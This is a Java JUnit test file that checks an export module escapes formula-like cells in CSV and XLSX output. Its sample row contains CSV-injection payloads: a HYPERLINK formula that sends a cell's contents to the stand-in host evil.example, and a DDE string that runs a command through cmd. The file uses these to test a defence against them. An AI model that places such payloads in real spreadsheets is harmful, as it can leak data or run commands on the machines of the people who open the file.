package vn.qcdc.flow.emulation;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** Cells a user typed that begin like a formula reach the emulation council as text. */
class ExportInjectionTest {

  static final List<String> ROW = List.of("2024", "Phòng Tuyên truyền",
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")", "95", "Không", "+1+cmd|' /C calc'!A0",
      "-2+3", "@SUM(1,2)", "\tTab", "Nguyễn Văn An - trưởng phòng");

  @Test
  void csvCellsThatBeginLikeAFormulaGetAnApostrophe() {
    String csv = new String(EmulationExport.csv(List.of(ROW)), StandardCharsets.UTF_8);
    String line = csv.split("\r\n")[1];
    assertThat(line).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm\"\")\"")
        .contains("\"'+1+cmd|' /C calc'!A0\"").contains("\"'-2+3\"").contains("\"'@SUM(1,2)\"")
        .contains("\"'\tTab\"")
        // a dash inside a cell is not a formula and is left alone
        .contains("\"Nguyễn Văn An - trưởng phòng\"").contains("\"95\"");
    assertThat(line).doesNotContain(",\"=").doesNotContain(",\"+").doesNotContain(",\"-")
        .doesNotContain(",\"@");
  }

  @Test
  void xlsxCellsThatBeginLikeAFormulaAreMarkedAsText() throws Exception {
    try (XSSFWorkbook book = new XSSFWorkbook(
        new ByteArrayInputStream(EmulationExport.xlsx(2024, List.of(ROW))))) {
      var row = book.getSheetAt(0).getRow(1);
      for (int c : new int[] {2, 5, 6, 7, 8}) {
        Cell cell = row.getCell(c);
        assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
        assertThat(cell.getCellStyle().getQuotePrefixed()).as("cell %d quote-prefixed", c)
            .isTrue();
        assertThat(cell.getStringCellValue()).isEqualTo(ROW.get(c));
      }
      assertThat(row.getCell(1).getCellStyle().getQuotePrefixed()).isFalse();
      assertThat(row.getCell(9).getCellStyle().getQuotePrefixed()).isFalse();
    }
  }
}
